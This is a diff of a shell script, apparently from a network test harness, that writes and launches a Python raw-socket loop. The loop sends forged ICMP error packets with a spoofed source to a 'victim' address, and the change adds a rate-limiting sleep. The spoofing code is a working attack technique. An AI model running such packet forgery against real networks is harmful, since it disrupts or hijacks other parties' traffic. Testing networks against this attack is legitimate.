@@ -2,7 +2,7 @@
 # come by way of the provider.
 set -eu
 cat >/tmp/replies.py <<'PYTHON'
-import random, socket, struct, sys
+import random, socket, struct, sys, time
 
 provider, victim, host = (socket.inet_aton(word) for word in sys.argv[1:])
 
@@ -30,6 +30,7 @@ while True:
         body = struct.pack(">BBHI", kind, code, 0, 0) + ip(victim, host, 17, probe)
         body = body[:2] + struct.pack(">H", checksum(body)) + body[4:]
         line.sendto(ip(source, victim, 1, body), goal)
+    time.sleep(0.0005)
 PYTHON
 provider=$(vtysh -c 'show bgp ipv4 unicast summary' | awk '$2 == 4 {print $1; exit}')
 setsid -f python3 /tmp/replies.py "$provider" "$REMOTE_HOST4" "$HOST4" >/dev/null 2>&1
